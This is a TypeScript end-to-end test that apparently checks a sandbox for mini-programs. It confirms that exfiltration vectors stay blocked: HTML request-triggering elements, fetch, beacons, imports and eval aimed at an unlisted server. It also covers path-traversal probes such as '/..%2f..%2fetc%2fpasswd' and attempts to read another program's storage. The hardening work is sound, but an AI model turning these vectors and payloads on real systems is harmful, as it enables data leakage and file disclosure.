/** Attacks that held when a stranger tried them, in one page: they stay tried. Somebody unlisted must hear nothing. */
import { startBackend, type Backend } from '../demo-backend/backend.ts';
import { expect, test } from '../e2e/larder-test.ts';
import { originOf, probe } from '../e2e/mini-programs.ts';
import { startUnlistedServer, type UnlistedServer } from './unlisted-server.ts';

const HELD_ID = 'heldAttacks';
const OTHER_ID = 'otherProgram';

/** What a page may write that asks somebody for something. */
const ELEMENTS = [
  '<img src="URL/img">',
  '<img srcset="URL/srcset 1x">',
  '<video src="URL/video" autoplay></video>',
  '<video poster="URL/poster"></video>',
  '<audio src="URL/audio" autoplay></audio>',
  '<video><track default src="URL/track"></video>',
  '<link rel="stylesheet" href="URL/style">',
  '<style>@import "URL/import"; @font-face { font-family: f; src: url(URL/font) } p { font: 1em f; background: url(URL/background) }</style><p>x</p>',
  '<svg><image href="URL/svg-image" /><use href="URL/use#a" /><filter id="f"><feImage href="URL/fe" /></filter></svg>',
  '<object data="URL/object"></object>',
  '<embed src="URL/embed">',
  '<iframe src="URL/frame"></iframe>',
  '<iframe srcdoc="<img src=URL/srcdoc>"></iframe>',
  '<iframe src="data:text/html,<img src=URL/data-frame>"></iframe>',
  '<link rel="icon" href="URL/icon">',
  '<link rel="manifest" href="URL/manifest">',
  ...['prefetch', 'preload', 'modulepreload', 'prerender', 'preconnect'].map(
    (rel) => `<link rel="${rel}" href="URL/${rel}" as="image">`,
  ),
  '<form action="URL/form" method="post"><button></button></form>',
  '<a ping="URL/ping" href="#x">x</a>',
  '<a download href="URL/download">x</a>',
  '<meta http-equiv="refresh" content="0; url=URL/refresh">',
];

/** Paths that must be nothing of the package's. */
const PATHS = [
  ...['/..%2f..%2fetc%2fpasswd', '/..%5c..%5cmanifest.json', '/index.html%00.txt'],
  ...[
    '/index.html::$DATA',
    '/index.html.',
    '/index.html%20',
    '/INDEX.HTML',
    '/%c0%ae%c0%ae/manifest.json',
    '/C:/x',
    '/con',
  ],
];

let backend: Backend;
let unlisted: UnlistedServer;
test.beforeEach(async () => {
  unlisted = await startUnlistedServer();
  backend = await startBackend({
    apps: [
      probe({
        appId: HELD_ID,
        preFetchUrl: null,
        files: { 'index.html': '<!doctype html><title>held</title><body>' },
      }),
      probe({
        appId: OTHER_ID,
        preFetchUrl: null,
        files: { 'index.html': '<!doctype html><title>other</title>', 'secret.txt': 'of the other' },
      }),
    ],
    routes: {
      '/away': () => ({ status: 302, headers: { location: `http://${unlisted.host}/redirected` } }),
    },
  });
});
test.afterEach(async () => {
  await backend.close();
  await unlisted.close();
});

test('elements, functions, paths, permissions and another’s data lead nowhere', async ({ startLarder }) => {
  test.setTimeout(180_000);
  const larder = await startLarder({ args: [`--backend-url=${backend.url}`, '--dev', `--open=${OTHER_ID}`] });
  const other = await larder.window(`${originOf(OTHER_ID)}/`);
  await other.evaluate(async () => {
    localStorage.setItem('secret', 'of the other');
    await (await caches.open('secret')).put('/kept', new Response('of the other'));
    await window.bn.setBackgroundFetchToken({ token: 'of the other' });
    const channel = new BroadcastChannel('secret');
    setInterval(() => channel.postMessage('of the other'), 100);
  });
  await larder.openByHandOver(HELD_ID);
  const page = await larder.window(`${originOf(HELD_ID)}/`);
  await page.waitForFunction(() => 'bn' in window);

  for (const element of ELEMENTS) {
    await page.evaluate(
      (html) => {
        const holder = document.createElement('div');
        holder.innerHTML = html;
        document.body.append(holder);
        for (const link of holder.querySelectorAll('a')) link.click();
        for (const button of holder.querySelectorAll('button')) button.click();
      },
      element.replaceAll('URL', `http://${unlisted.host}`),
    );
  }

  const functions = await page.evaluate(
    async ([to, redirect]) => {
      const outcome = (run: () => unknown): Promise<string> =>
        Promise.race([
          Promise.resolve()
            .then(run)
            .then(
              () => 'done',
              () => 'refused',
            ),
          new Promise<string>((resolve) => setTimeout(resolve, 3_000, 'silent')),
        ]);
      navigator.sendBeacon(`${to}/beacon`, 'x');
      return {
        fetch: await outcome(() => fetch(`${to}/fetch`, { mode: 'no-cors' })),
        keepalive: await outcome(() => fetch(`${to}/keepalive`, { mode: 'no-cors', keepalive: true })),
        redirect: await outcome(() => fetch(redirect!, { mode: 'no-cors' })),
        imported: await outcome(() => import(`${to}/module.js`)),
        events: await outcome(
          () =>
            new Promise((resolve, reject) => {
              const source = new EventSource(`${to}/events`);
              source.onopen = resolve;
              source.onerror = reject;
            }),
        ),
        evaluated: await outcome(() => (0, eval)('1')),
        made: await outcome(() => new Function('return 1')()),
        opened: String(window.open(`${to}/opened`)),
        ownScheme: String(window.open('larder://launcher/')),
        blob: await outcome(() => {
          const script = new Blob([`importScripts('${to}/worker.js')`]);
          return void new Worker(URL.createObjectURL(script));
        }),
      };
    },
    [`http://${unlisted.host}`, `${backend.url}/away`],
  );
  expect(functions).toEqual({
    fetch: 'refused',
    keepalive: 'refused',
    redirect: 'refused',
    imported: 'refused',
    events: 'refused',
    evaluated: 'refused',
    made: 'refused',
    opened: 'null',
    ownScheme: 'null',
    blob: 'done',
  });

  const statuses = await page.evaluate(
    (paths) =>
      Promise.all(
        paths.map((path) =>
          fetch(path).then(
            ({ status }) => status,
            () => 0,
          ),
        ),
      ),
    PATHS,
  );
  expect(statuses.filter((status) => status !== 404 && status !== 0)).toEqual([]);

  const seen = await page.evaluate(async (foreign) => {
    const attempt = (run: () => Promise<unknown>): Promise<unknown> => run().catch(() => 'refused');
    const heard = new Promise((resolve) => {
      new BroadcastChannel('secret').onmessage = ({ data }) => resolve(data);
      setTimeout(resolve, 1_000, 'nothing');
    });
    return {
      file: await attempt(async () => (await fetch(`${foreign}/secret.txt`)).text()),
      page: await attempt(async () => (await fetch('larder://launcher/')).text()),
      stored: localStorage.getItem('secret'),
      cached: (await caches.keys()).length,
      token: await attempt(async () => ((await window.bn.getBackgroundFetchToken()) as { token: string }).token),
      heard: await heard,
      globals: ['require', 'process', 'ipcRenderer', 'container', '__backgroundFetchParts'].filter(
        (name) => name in window,
      ),
    };
  }, originOf(OTHER_ID));
  expect(seen).toEqual({
    file: 'refused',
    page: 'refused',
    stored: null,
    cached: 0,
    token: 'refused',
    heard: 'nothing',
    globals: [],
  });

  expect(page.url()).toBe(larder.hasWindow(`${originOf(HELD_ID)}/`) ? page.url() : '');
  // What is sent late would have arrived by now.
  await page.waitForTimeout(2_000);
  expect(unlisted.heard).toEqual([]);
});
